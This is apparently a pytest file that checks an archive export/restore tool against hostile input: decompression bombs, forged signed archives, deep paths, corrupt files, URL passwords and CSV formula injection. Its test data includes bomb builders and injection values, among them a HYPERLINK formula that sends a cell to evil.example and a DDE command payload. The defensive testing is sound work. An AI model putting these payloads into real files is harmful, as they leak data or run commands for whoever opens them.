"""Issue 26, the archive side: what a hostile task, server or archive can no longer do to an export or a restore.

Each test names the finding it covers and says in its docstring what today's main did with the same input
(each was run against main with ``PYTHONPATH=/work/main``: every one fails there).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import time
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest

from clearml_assets.archives import extract_archive
from clearml_assets.archives.checks import verify_export
from clearml_assets.archives.events import decode_plot
from clearml_assets.archives.exporter import ClearMLTaskExporter
from clearml_assets.archives.manifest import hash_folder, read_manifest, write_manifest
from clearml_assets.archives.packing import ARCHIVE_FORMATS, write_archive
from clearml_assets.errors import ArchiveError, ClearMLConfigError
from clearml_assets.restore.engine import TaskRestorer, provenance_tag
from clearml_assets.restore.reader import open_archive
from seeding import DemoSpec, RawSeeder, client_of

SPEC = DemoSpec(scalar_series=2, points_per_series=5, log_lines=3, artifacts=0, artifact_bytes=0, plots=1,
                debug_images=0)
KEY_ENV = "CLEARML_ASSETS_ARCHIVE_KEY"


@pytest.fixture
def world(clearml_server, tmp_path: Path):
    seeder = RawSeeder.of(clearml_server)
    client = client_of(clearml_server, "hostile")
    exporter = ClearMLTaskExporter(client, "hostile", tmp_path / "exports", max_workers=2)
    yield seeder, client, exporter, tmp_path
    exporter.close()


def _all_bytes(*roots: Path) -> bytes:
    """Every file under ``roots``, archive members included (zip), as one blob to search."""
    blob = []
    for root in roots:
        for path in Path(root).rglob("*"):
            if path.is_file():
                blob.append(path.read_bytes())
                if path.suffix == ".zip":
                    with zipfile.ZipFile(path) as zf:
                        blob.extend(zf.read(name) for name in zf.namelist())
    return b"\n".join(blob)


def _repack(folder: Path, dest: Path, *, resign: bool = False) -> Path:
    """Pack an edited export folder again with a freshly computed manifest (what a forger can do)."""
    manifest = read_manifest(folder)
    manifest.pop("archive", None)
    manifest["files"] = hash_folder(folder)
    if not resign:
        os.environ.pop(KEY_ENV, None)  # the forger has no key: the manifest goes out unsigned
    write_manifest(folder, manifest)
    write_archive(folder, dest, manifest["files"], "zip", arcroot=folder.name)
    return dest


def _copies(client, source_id: str) -> list[dict]:
    return client.tasks.find_by_system_tag(provenance_tag(source_id))


# -- 2: zlib bombs ------------------------------------------------------------------------------------------
def _zlib_bomb(size: int, fill: bytes = b" ") -> bytes:
    """``size`` bytes of ``fill`` as one zlib stream, built without holding them in memory."""
    deflater, chunk, parts = zlib.compressobj(9), fill * (1 << 20), []
    for _ in range(size >> 20):
        parts.append(deflater.compress(chunk))
    parts.append(deflater.flush())
    return b"".join(parts)


def test_2_a_plot_bomb_is_inflated_within_its_limit():
    """Finding 2: a 200 MB plot in a ~200 KB ``plot_data``. Main's ``decode_plot`` inflated it whole (200 MB
    in memory, no error); here it stops at the 64 MiB limit and says so."""
    import base64

    bomb = base64.b64encode(_zlib_bomb(200 << 20)).decode()
    assert len(bomb) < 400_000
    tracemalloc.start()
    try:
        with pytest.raises(ValueError, match="more than 67108864 bytes"):
            decode_plot({"metric": "m", "variant": "v", "plot_data": bomb})
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 80 << 20, f"inflating the bomb held {peak >> 20} MiB"


def _plot_bomb_task(seeder: RawSeeder, size: int) -> str:
    task_id = seeder.seed_task(seeder.project("bombs"), "bombs", "plot bomb", SPEC, complete=False)
    # the server stores a plot of 100,000 characters or more compressed: a plot of spaces is a bomb
    seeder.add_events([{"type": "plot", "task": task_id, "timestamp": 1, "iter": 7, "metric": "bomb",
                        "variant": "spaces", "plot_str": " " * size}])
    seeder.call("tasks.completed", task=task_id, force=True)
    return task_id


def test_2_the_exporter_keeps_a_plot_bomb_compressed(world, monkeypatch):
    """Finding 2, exporter: a plot that inflates past the limit (here set to 4 MiB) is archived as the server
    stored it (``plot_data``) with a warning, not inflated. Main inflated it whole into ``plots.jsonl``."""
    seeder, _, exporter, _ = world
    monkeypatch.setenv("CLEARML_ASSETS_MAX_PLOT_BYTES", str(4 << 20))
    task_id = _plot_bomb_task(seeder, 16 << 20)
    result = exporter.export_task(task_id)
    lines = [json.loads(line) for line in (result.folder / "plots" / "plots.jsonl").read_text().splitlines()]
    bomb = next(e for e in lines if e["metric"] == "bomb")
    assert bomb.get("plot_str") is None and bomb["plot_data"]
    assert (result.folder / "plots" / "plots.jsonl").stat().st_size < 1 << 20
    assert any("kept compressed" in i.get("warning", "") for i in result.issues)
    assert result.manifest["status"] == "ok" and result.counts["plots"] == SPEC.plots + 1


def test_2_restore_refuses_a_plot_bomb_before_any_write(world, monkeypatch):
    """Finding 2, restore: an archive holding a compressed plot that inflates past the limit restores
    nothing (checked before the first request). Main inflated it and restored the 16 MiB plot."""
    seeder, client, exporter, tmp_path = world
    monkeypatch.setenv("CLEARML_ASSETS_MAX_PLOT_BYTES", str(32 << 20))
    task_id = _plot_bomb_task(seeder, 16 << 20)
    result = exporter.export_task(task_id)  # within 32 MiB: archived decoded; a forger packs it compressed
    folder = tmp_path / "forged" / result.folder.name
    shutil.copytree(result.folder, folder)
    plots = folder / "plots" / "plots.jsonl"
    import base64

    lines = []
    for line in plots.read_text().splitlines():
        event = json.loads(line)
        if event["metric"] == "bomb":
            event.pop("plot_str")
            event["plot_data"] = base64.b64encode(_zlib_bomb(16 << 20)).decode()
        lines.append(json.dumps(event))
    plots.write_text("\n".join(lines) + "\n")
    forged = _repack(folder, tmp_path / "forged.zip")
    monkeypatch.setenv("CLEARML_ASSETS_MAX_PLOT_BYTES", str(4 << 20))
    with pytest.raises(ArchiveError, match="plot 'bomb'/'spaces' iteration 7 .* more than 4194304 bytes"):
        TaskRestorer(client).restore_path(forged)
    assert _copies(client, task_id) == []


def test_2_restore_refuses_an_over_long_record_before_any_write(world, monkeypatch):
    """Finding 2's twin on restore: one log line longer than a restore reads into memory (4 times the plot
    limit, here 1 MiB: 4 Mi characters). Main read it whole and sent it; now the archive is refused before
    the first request, naming the file and the line."""
    seeder, client, exporter, tmp_path = world
    task_id = seeder.seed_task(seeder.project("long lines"), "long lines", "long line", SPEC)
    result = exporter.export_task(task_id)
    folder = tmp_path / "forged" / result.folder.name
    shutil.copytree(result.folder, folder)
    with open(folder / "log.jsonl", "a", encoding="utf-8") as handle:
        handle.write(json.dumps({"timestamp": 2, "level": "info", "msg": "y" * (5 << 20)}) + "\n")
    forged = _repack(folder, tmp_path / "forged.zip")
    monkeypatch.setenv("CLEARML_ASSETS_MAX_PLOT_BYTES", str(1 << 20))
    with pytest.raises(ArchiveError, match=r"log.jsonl line 4 is longer than 4194304 characters"):
        TaskRestorer(client).restore_path(forged)
    assert _copies(client, task_id) == []


# -- 6: one name blocks a whole project ---------------------------------------------------------------------
def _reserved_names_task(seeder: RawSeeder, files: str) -> tuple[str, dict[str, bytes]]:
    task_id = seeder.seed_task(seeder.project("reserved"), "reserved", "reserved names", SPEC, complete=False)
    data = {name: os.urandom(64) for name in ("image", "artifact", "weights")}
    events = [{"type": "training_debug_image", "task": task_id, "timestamp": 1, "iter": 0, "metric": metric,
               "variant": "v", "url": seeder.upload(f"/r/{task_id}/{metric}.png", data["image"])}
              for metric in ("index.jsonl", "downloads.jsonl", "Index.JSONL")]
    seeder.add_events(events)
    seeder.call("tasks.add_or_update_artifacts", task=task_id, force=True, artifacts=[
        {"key": "a", "type": "custom", "mode": "output", "content_size": 64, "type_data": {"preview": "PREVIEW"},
         "uri": seeder.upload(f"/r/{task_id}/preview.txt", data["artifact"])}])
    model_id = seeder.call("models.create", name="weights", task=task_id, ready=False,
                           uri=seeder.upload(f"/r/{task_id}/events.jsonl", data["weights"]))["id"]
    seeder.call("tasks.add_or_update_model", task=task_id, name="weights", model=model_id, type="output")
    seeder.add_events([{"type": "training_stats_scalar", "model_event": True, "model": model_id, "iter": 0,
                        "timestamp": 1, "metric": "acc", "variant": "top1", "value": 0.5}])
    seeder.call("tasks.completed", task=task_id, force=True)
    return task_id, data


def test_6_clearml_names_never_land_on_the_archives_own_files(world):
    """Finding 6: debug images whose metric is ``index.jsonl``/``downloads.jsonl``, an artifact file named
    ``preview.txt`` and model weights named ``events.jsonl``. Main failed the export every time
    (``NotADirectoryError`` on ``debug_images/index.jsonl``); with other names it overwrote the preview
    with the artifact and the weights with the model's events."""
    seeder, client, exporter, tmp_path = world
    task_id, data = _reserved_names_task(seeder, "reserved")
    result = exporter.export_task(task_id)
    folder = result.folder
    index = [json.loads(line) for line in (folder / "debug_images" / "index.jsonl").read_text().splitlines()]
    assert {e["metric"] for e in index} == {"index.jsonl", "downloads.jsonl", "Index.JSONL"}
    assert all((folder / e["local_file"]).read_bytes() == data["image"] for e in index)
    assert len((folder / "debug_images" / "downloads.jsonl").read_text().splitlines()) == 3
    artifact = json.loads((folder / "artifacts" / "index.json").read_text())[0]
    assert (folder / artifact["preview_file"]).read_text() == "PREVIEW"
    assert (folder / artifact["download"]["file"]).read_bytes() == data["artifact"]
    (model,) = json.loads((folder / "models" / "models.json").read_text())
    assert (folder / model["download"]["file"]).read_bytes() == data["weights"]
    events_file = folder / Path(model["download"]["file"]).parent / "events.jsonl"
    assert [json.loads(line)["variant"] for line in events_file.read_text().splitlines()] == ["top1"]
    assert result.manifest["status"] == "ok" and verify_export(exporter.root, "hostile", "tasks", task_id)[0]


def test_6_a_subproject_named_like_a_task_folder_or_archive_stays_apart(world):
    """Finding 6 (same class): subprojects named ``<task name>.<task id>`` and ``<task name>.<task id>.zip``
    beside a task. On main the first one's folder was the task's own folder (re-exporting the task deleted
    the subproject's exports) and the second one's folder took the task archive's path
    (``IsADirectoryError`` on every export of the task)."""
    seeder, _, exporter, _ = world
    project = seeder.project("parent")
    first = seeder.seed_task(project, "parent", "task", SPEC)
    inner = [seeder.seed_task(seeder.project(f"parent/task.{first}{suffix}"), f"parent/task.{first}{suffix}", "inner", SPEC)
             for suffix in ("", ".zip")]
    results = [exporter.export_task(task_id) for task_id in (first, *inner)]
    results[0] = exporter.export_task(first, force=True)
    for result in results:
        assert verify_export(exporter.root, "hostile", "tasks", result.task_id)[0]
    folders = [r.folder.resolve() for r in results]
    assert not any(a in b.parents for a in folders for b in folders)


def test_6_a_task_that_cannot_be_exported_is_listed_in_the_project_archive(world):
    """Finding 6: one task of a project fails its export (here a file fetch that raises every time). Main
    raised and never wrote the project archive; now the archive holds the other tasks, lists the failed
    one with its reason, and its status is ``incomplete`` (so its check fails and the next run retries)."""
    seeder, client, _, tmp_path = world
    project = seeder.project("poisoned")
    good = seeder.seed_task(project, "poisoned", "good", SPEC)
    bad = seeder.seed_task(project, "poisoned", "bad", DemoSpec(1, 1, 1, 0, 0, 0, 1))

    def download(url: str, dest: Path) -> int:
        raise RuntimeError("this file cannot be read, every time")

    with ClearMLTaskExporter(client, "hostile", tmp_path / "exports", download=download) as exporter:
        result = exporter.export_project(project)
    assert [r.task_id for r in result.tasks] == [good]
    assert [f["task_id"] for f in result.failures] == [bad] and "every time" in result.failures[0]["error"]
    assert result.manifest["status"] == "incomplete"
    assert [f["task_id"] for f in result.manifest["failed_tasks"]] == [bad]
    assert [f["task_id"] for f in json.loads((result.folder / "project.json").read_text())["failed_tasks"]] == [bad]
    passed, meta = verify_export(tmp_path / "exports", "hostile", "projects", project)
    assert not passed and "incomplete" in meta["problem"]


# -- 7: tampering ---------------------------------------------------------------------------------------------
def test_7_with_a_key_only_untampered_signed_archives_restore(world, monkeypatch):
    """Finding 7: with ``CLEARML_ASSETS_ARCHIVE_KEY`` set, the export is signed and restores; the same archive
    with one scalar edited and its manifest recomputed (unsigned, or carrying the old signature) and an
    archive signed with another key restore nothing. Main ignored the key and restored the edited archive.
    The key is in no file the export or the restore wrote."""
    seeder, client, exporter, tmp_path = world
    key = "k3y-" + os.urandom(16).hex()
    monkeypatch.setenv(KEY_ENV, key)
    task_id = seeder.seed_task(seeder.project("signed"), "signed", "signed", SPEC)
    monkeypatch.delenv(KEY_ENV)
    assert "signature" not in exporter.export_task(task_id).manifest
    monkeypatch.setenv(KEY_ENV, key)
    result = exporter.export_task(task_id)  # the unsigned export is not current while a key is set
    assert not result.skipped and set(result.manifest["signature"]) == {"algorithm", "key_id", "hmac"}
    assert exporter.export_task(task_id).skipped and verify_export(exporter.root, "hostile", "tasks", task_id)[0]
    monkeypatch.setenv(KEY_ENV, "another-" + os.urandom(16).hex())  # the check holds the manifest to the key
    passed, meta = verify_export(exporter.root, "hostile", "tasks", task_id)
    assert not passed and "signed with another key" in meta["problem"]
    monkeypatch.setenv(KEY_ENV, key)
    folder = tmp_path / "edited" / result.folder.name
    shutil.copytree(result.folder, folder)
    scalars = folder / "scalars" / "scalars.jsonl"
    scalars.write_text(re.sub(r'"value":[^,]+', '"value":42.0', scalars.read_text(), count=1))
    unsigned = _repack(folder, tmp_path / "unsigned.zip")
    monkeypatch.setenv(KEY_ENV, key)
    manifest = read_manifest(folder)
    manifest["signature"] = result.manifest["signature"]  # the old signature on the new content
    (folder / "manifest.json").write_text(json.dumps(manifest))
    old_signature = tmp_path / "old-signature.zip"
    write_archive(folder, old_signature, manifest["files"], "zip", arcroot=folder.name)
    monkeypatch.setenv(KEY_ENV, "another-" + os.urandom(16).hex())
    other_key = ClearMLTaskExporter(client, "hostile", tmp_path / "other", max_workers=2).export_task(task_id)
    monkeypatch.setenv(KEY_ENV, key)
    for archive, why in ((unsigned, "is not signed"), (old_signature, "changed after it was signed"),
                         (other_key.archive, "signed with another key")):
        with pytest.raises(ArchiveError, match=why):
            TaskRestorer(client).restore_path(archive)
    assert _copies(client, task_id) == []
    monkeypatch.setenv(KEY_ENV, "short")
    with pytest.raises(ClearMLConfigError, match="shorter than 16 characters"):
        TaskRestorer(client).restore_path(result.archive)
    monkeypatch.setenv(KEY_ENV, key)
    (restored,) = TaskRestorer(client).restore_path(result.archive)
    assert restored.created and restored.counts["scalar_points"] == 10
    assert key.encode() not in _all_bytes(tmp_path), "the key was written somewhere"


def _forged(result, tmp_path: Path, **task_fields) -> Path:
    """The task's archive with its provenance rewritten and task fields changed, manifest recomputed."""
    folder = tmp_path / "forged" / result.folder.name
    shutil.copytree(result.folder, folder)
    info = json.loads((folder / "task.json").read_text())
    info["task"].update(task_fields)
    info["account"], info["web_url"] = "mallory", "http://mallory.example/projects/x/experiments/y"
    (folder / "task.json").write_text(json.dumps(info))
    manifest = read_manifest(folder)
    manifest.update(account="mallory", web_url=info["web_url"])
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return _repack(folder, tmp_path / "forged.zip")


def test_7_a_forged_archive_claiming_a_restored_source_changes_nothing(world):
    """Finding 7: an archive from another account claiming the source id of a task already restored here,
    marked ``published``. Main published the existing copy (someone else's) and, for a copy left
    ``restore-incomplete``, reset it and filled it with the forged content. Now both are refused before any
    write, naming the recorded source."""
    seeder, client, exporter, tmp_path = world
    task_id = seeder.seed_task(seeder.project("provenance"), "provenance", "original", SPEC)
    result = exporter.export_task(task_id)
    (copy,) = TaskRestorer(client).restore_path(result.archive)
    forged = _forged(result, tmp_path, status="published", name="forged")
    before = client.tasks.get(copy.task_id).raw
    with pytest.raises(ArchiveError, match="records restore_source_account='hostile'.*nothing was changed"):
        TaskRestorer(client).restore_path(forged)
    after = client.tasks.get(copy.task_id).raw
    assert after["status"] == "completed" and after["last_update"] == before["last_update"]
    tags = [*after["system_tags"], "restore-incomplete"]  # as a restore that died half-way leaves it
    client.tasks.update(copy.task_id, system_tags=tags)
    with pytest.raises(ArchiveError, match="forged or foreign"):
        TaskRestorer(client).restore_path(forged)
    after = client.tasks.get(copy.task_id).raw
    assert after["name"] == "original" and after["status"] == "completed"
    assert client.session.call("events.get_task_events", task=copy.task_id, event_type="training_stats_scalar",
                               batch_size=100)["total"] == 10


# -- 8: bombs unpacked to disk --------------------------------------------------------------------------------
class _Zeros(io.RawIOBase):
    def __init__(self, size: int):
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n


def _bomb(path: Path, size: int, members: int = 1) -> Path:
    """An archive of ``members`` files of ``size`` zero bytes each, in the format its name says."""
    if path.name.endswith(".zip"):
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
            for i in range(members):
                with zf.open(f"t.1/f{i}", "w", force_zip64=True) as out:
                    shutil.copyfileobj(_Zeros(size), out, 1 << 20)
        return path
    fmt = path.name.split(".", 1)[1]
    level = {"tar.gz": {"compresslevel": 6}, "tar.xz": {"preset": 0}}.get(fmt, {})
    with tarfile.open(path, {"tar.gz": "w:gz", "tar.xz": "w:xz", "tar": "w"}[fmt], **level) as tf:
        for i in range(members):
            info = tarfile.TarInfo(f"t.1/f{i}")
            info.size = size
            tf.addfile(info, _Zeros(size) if size else None)
    return path


@pytest.mark.parametrize("fmt", ["zip", "tar.gz", "tar.xz"])
def test_8_bombs_are_refused_from_their_index_before_anything_is_written(tmp_path: Path, fmt: str):
    """Finding 8: 256 MiB of zeros in an archive of a few hundred KB, and 20,000 empty files (inodes). Main
    unpacked the zip bomb to disk (a 204 KB zip wrote 200 MB) and every other one as well; now each is
    refused from its index (sizes against the archive's size) and nothing is written."""
    for name, size, members in (("big", 256 << 20, 1), ("many", 0, 20_000)):
        if name == "many" and fmt == "zip":
            continue  # a zip's central directory holds ~100 bytes per member: not a bomb of files
        archive = _bomb(tmp_path / f"{name}.{fmt}", size, members)
        assert archive.stat().st_size < 2 << 20
        target = tmp_path / f"out-{name}"
        with pytest.raises(ArchiveError, match="decompression bomb") as err:
            extract_archive(archive, target)
        assert "\n" not in str(err.value) and archive.name in str(err.value)
        assert not [p for p in target.rglob("*") if p.is_file()]
    with pytest.raises(ArchiveError, match="decompression bomb"):  # what restore opens goes the same way
        with open_archive(tmp_path / f"big.{fmt}", workdir=tmp_path):
            pass


def _packed(tmp_path: Path, name: str, content: dict[str, bytes]) -> Path:
    folder = tmp_path / name
    folder.mkdir()
    for rel, data in content.items():
        (folder / rel).write_bytes(data)
    files = hash_folder(folder)
    (folder / "manifest.json").write_text(json.dumps({"files": files}))
    write_archive(folder, tmp_path / f"{name}.zip", files, "zip")
    return tmp_path / f"{name}.zip"


def test_8_archives_made_here_unpack_and_the_ratio_can_be_raised(tmp_path: Path, monkeypatch):
    """The bounds refuse bombs, not archives: 40 MiB of random weights, and a 40 MiB log of one line repeated
    (about 170 times smaller in a zip made here) unpack; a 40 MiB file of zeros (about 230 times) is refused
    until ``CLEARML_ASSETS_UNPACK_MAX_RATIO`` allows it."""
    weights = _packed(tmp_path, "t.1", {"weights.bin": os.urandom(40 << 20)})
    assert sorted(p.name for p in extract_archive(weights, tmp_path / "out")) == ["manifest.json", "weights.bin"]
    log = _packed(tmp_path, "t.2", {"console.log": b"epoch done\n" * (4 << 20)})
    assert sorted(p.name for p in extract_archive(log, tmp_path / "out")) == ["console.log", "manifest.json"]
    zeros = _packed(tmp_path, "t.3", {"zeros.log": bytes(40 << 20)})
    with pytest.raises(ArchiveError, match=r"refused as a possible decompression bomb.*UNPACK_MAX_RATIO=2\d\d$"):
        extract_archive(zeros, tmp_path / "out2")
    monkeypatch.setenv("CLEARML_ASSETS_UNPACK_MAX_RATIO", "300")
    assert len(extract_archive(zeros, tmp_path / "out2")) == 2


def test_8_zip_members_that_are_encrypted_or_otherwise_compressed_are_refused(tmp_path: Path):
    """A zip member compressed with bzip2 or lzma (ratios far past deflate's) is refused before anything is
    written; archives made here only store or deflate."""
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        path = tmp_path / f"m{method}.zip"
        with zipfile.ZipFile(path, "w", method) as zf:
            zf.writestr("t.1/a.txt", "x" * 1000)
        with pytest.raises(ArchiveError, match=f"compression method {method}"):
            extract_archive(path, tmp_path / f"out{method}")
        assert not (tmp_path / f"out{method}" / "t.1").exists()


# -- 9: corrupt archives --------------------------------------------------------------------------------------
def _good_archive(tmp_path: Path, fmt: str) -> Path:
    folder = tmp_path / "src" / "t.1"
    folder.mkdir(parents=True)
    (folder / "console.log").write_text("line\n" * 20_000)
    (folder / "blob.bin").write_bytes(os.urandom(50_000))
    files = hash_folder(folder)
    (folder / "manifest.json").write_text(json.dumps({"files": files}))
    write_archive(folder, tmp_path / f"t.1.{fmt}", files, fmt)
    return tmp_path / f"t.1.{fmt}"


@pytest.mark.parametrize("fmt", ARCHIVE_FORMATS)
def test_9_a_corrupt_archive_is_one_line_naming_the_file(tmp_path: Path, fmt: str):
    """Finding 9, every format of ``ARCHIVE_CODECS``: garbage, an empty file, the first half of a good
    archive, one flipped byte. Main raised raw ``zipfile.BadZipFile``, ``tarfile.ReadError``, ``EOFError``
    or ``lzma.LZMAError`` tracebacks; now each is an ``ArchiveError`` of one line naming the file."""
    good = _good_archive(tmp_path, fmt).read_bytes()
    flipped = bytearray(good)
    flipped[len(good) // 3] ^= 0xFF
    cases = {"garbage": os.urandom(3000), "empty": b"", "first half": good[:len(good) // 2],
             "flipped byte": bytes(flipped)}
    for case, data in cases.items():
        path = tmp_path / f"{case.replace(' ', '_')}.{fmt}"
        path.write_bytes(data)
        try:
            with open_archive(path, workdir=tmp_path):
                pass
        except ArchiveError as exc:
            text = str(exc)
            assert "\n" not in text and path.name in text, (case, text)
            continue
        pytest.fail(f"{case}: a damaged .{fmt} archive opened without an error")


def test_9_the_restore_command_prints_one_line_for_a_corrupt_archive(clearml_server, tmp_path: Path):
    """Finding 9, as a user sees it: ``clearml-assets restore garbage.zip`` exits 1 with one ``error:`` line
    naming the file. Main printed a ``zipfile.BadZipFile`` traceback."""
    path = tmp_path / "garbage.zip"
    path.write_bytes(b"PK\x03\x04" + os.urandom(500))
    info = clearml_server.info
    env = {**os.environ, "CLEARML_KEY_TARGET": info.access_key, "CLEARML_SECRET_TARGET": info.secret_key,
           "CLEARML_API_HOST_TARGET": info.api_host, "CLEARML_FILES_HOST_TARGET": info.files_host,
           "CLEARML_ASSETS_HOME": str(tmp_path / "home")}
    proc = subprocess.run([sys.executable, "-m", "clearml_assets.restore.cli", str(path), "--account", "target"],
                          env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: ") and "garbage.zip" in lines[0], lines


# -- 10: URL passwords --------------------------------------------------------------------------------------
def test_10_url_passwords_are_masked_in_every_archived_record(world):
    """Finding 10: a debug image, a plot image source and a model whose URLs carry ``user:pass@``. Main kept
    the password in ``debug_images/index.jsonl``, ``plots/plots.jsonl`` and ``models/models.json`` (only
    ``task.json`` was masked); now no file of the export or its archive holds it."""
    seeder, _, exporter, tmp_path = world
    secret = "pw" + os.urandom(8).hex()
    task_id = seeder.seed_task(seeder.project("urls"), "urls", "urls", SPEC, complete=False)
    url = f"http://someone:{secret}@files.example.com/path/img.png"
    seeder.add_events([
        {"type": "training_debug_image", "task": task_id, "timestamp": 1, "iter": 0, "metric": "m",
         "variant": "v", "url": url},
        {"type": "plot", "task": task_id, "timestamp": 1, "iter": 0, "metric": "fig", "variant": "v",
         "plot_str": json.dumps({"data": [], "layout": {"images": [{"source": url}]}})}])
    model_id = seeder.call("models.create", name="weights", uri=url.replace("img.png", "w.pt"), task=task_id)["id"]
    seeder.call("tasks.add_or_update_model", task=task_id, name="weights", model=model_id, type="output")
    seeder.call("tasks.add_or_update_artifacts", task=task_id, force=True, artifacts=[
        {"key": "a", "type": "custom", "mode": "output", "uri": url}])
    seeder.call("tasks.completed", task=task_id, force=True)
    result = exporter.export_task(task_id)
    assert result.counts["debug_image_events"] == 1 and result.counts["models"] == 1
    assert secret.encode() not in _all_bytes(exporter.root)
    assert b"someone:***@" not in _all_bytes(exporter.root) and b"http://***@files.example.com" in \
        (result.folder / "debug_images" / "index.jsonl").read_bytes()


# -- 12: very deep names ------------------------------------------------------------------------------------
def test_12_a_deeply_nested_project_is_exported_in_a_bounded_path(world):
    """Finding 12: a project nested 200 levels (the local server's limit; a real server takes more) of 18
    ``%`` each: 3,799 characters, 11,000 bytes of folders once escaped. Main raised a raw
    ``OSError: File name too long``; now the folders past 1,024 bytes continue in one ``%nested~<hash>``
    folder and the export is whole (the full name is in ``task.json``)."""
    seeder, _, exporter, _ = world
    name = "/".join(["%" * 18] * 200)
    task_id = seeder.seed_task(seeder.project(name), name, "deep", SPEC)
    result = exporter.export_task(task_id)
    assert result.manifest["status"] == "ok"
    rel = result.folder.relative_to(exporter.root)
    assert len(str(rel).encode()) < 1400 and rel.parts[-2].startswith("%nested~")
    assert json.loads((result.folder / "task.json").read_text())["names"]["project"] == name


def test_12_an_export_root_too_long_for_the_path_limit_is_refused_clearly(tmp_path: Path):
    """An export folder over 3,072 bytes (here from a 3,000-byte export root) is an ``ArchiveError`` naming the
    limit, raised before any folder is made."""
    from clearml_assets.archives.paths import task_export_dir

    root = tmp_path / "/".join(["r" * 99] * 30)
    with pytest.raises(ArchiveError, match="more than the 3072 .* shorter export root"):
        task_export_dir(root, "acct", "project", "task", "0123")
    assert not root.exists()


def test_12_an_archive_member_with_a_huge_path_is_refused(tmp_path: Path):
    """Finding 12, restore side: a member 600 folders deep (6,000 bytes). Main raised a raw
    ``OSError: [Errno 36] File name too long`` half-way through unpacking."""
    path = tmp_path / "deep.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("t.1/" + "/".join(["d" * 9] * 600) + "/f.txt", "x")
    with pytest.raises(ArchiveError, match="too long") as err:
        extract_archive(path, tmp_path / "out")
    assert "\n" not in str(err.value)


# -- 13: formula injection ----------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\tTAB", "\rCR+", "'=already quoted"]


def test_13_metrics_csv_holds_no_live_formula(world):
    """Finding 13: tasks named ``=HYPERLINK(...)``, ``+cmd|...``, ``-2+3``, ``@SUM(1)``, a leading tab or
    carriage return. Main wrote each as a live formula cell of ``metrics.csv``; now each is text (a leading
    apostrophe) and numbers stay numbers."""
    seeder, _, exporter, _ = world
    project = seeder.project("formulas")
    for name in FORMULAS:
        seeder.seed_task(project, "formulas", name, SPEC)
    result = exporter.export_project(project)
    with open(result.folder / "metrics.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    stored = sorted(r.task_name for r in result.tasks)  # as the server keeps them (it strips blanks)
    assert sorted(r["task_name"] for r in rows) == sorted("'" + n if re.match(r"'*[=+\-@\t\r]", n) else n
                                                          for n in stored)
    assert {"'" + n for n in FORMULAS[:4]} <= {r["task_name"] for r in rows}
    assert all(not re.match(r"[=+\-@\t\r]", cell) for r in rows for cell in r.values()
               if not re.fullmatch(r"-?[0-9.e+-]+", cell))


def test_13_dataset_csvs_hold_no_live_formula(tmp_path: Path):
    """Finding 13, datasets: a frame whose names begin with ``=``/``+``/``-``/``@``. Main wrote them raw into
    ``manifest.csv``; now they are text cells, and the CSV fallback reads them back exactly."""
    import pandas as pd

    from clearml_assets.datasets.manifest import MANIFEST_PARQUET, read_manifest as read_frames, write_manifest as write_frames

    names = [n for n in FORMULAS if "\r" not in n]  # pandas writes a lone CR unquoted: not a cell of its own
    frame = pd.DataFrame({"frame_id": names, "n_objects": range(-1, len(names) - 1), "value": ["-0.5"] * len(names)})
    write_frames(frame, tmp_path)
    with open(tmp_path / "manifest.csv", newline="", encoding="utf-8") as handle:
        cells = [row["frame_id"] for row in csv.DictReader(handle)]
    assert cells == ["'" + name for name in names]
    (tmp_path / MANIFEST_PARQUET).unlink()
    back = read_frames(tmp_path)
    assert back["frame_id"].tolist() == names and back["value"].tolist() == [-0.5] * len(names)


# -- issue 23: a changed archive format ----------------------------------------------------------------------
def test_a_changed_archive_format_replaces_the_previous_archive(world):
    """Issue 23's rough edge: exporting a task as ``zip`` and then as ``tar.gz``. Main left ``.zip`` and
    ``.zip.sha256`` beside the new archive; now the old format is removed once the new archive is published
    and read back against its manifest."""
    seeder, client, exporter, tmp_path = world
    task_id = seeder.seed_task(seeder.project("formats"), "formats", "format change", SPEC)
    first = exporter.export_task(task_id)
    assert first.archive.exists() and first.archive.with_name(first.archive.name + ".sha256").exists()
    with ClearMLTaskExporter(client, "hostile", exporter.root, archive_format="tar.gz") as again:
        second = again.export_task(task_id)
    assert not second.skipped and second.archive.name.endswith(".tar.gz")
    siblings = sorted(p.name for p in second.folder.parent.iterdir() if not p.name.startswith("."))
    assert siblings == sorted([second.folder.name, second.archive.name, second.archive.name + ".sha256"])
    assert verify_export(exporter.root, "hostile", "tasks", task_id)[0]
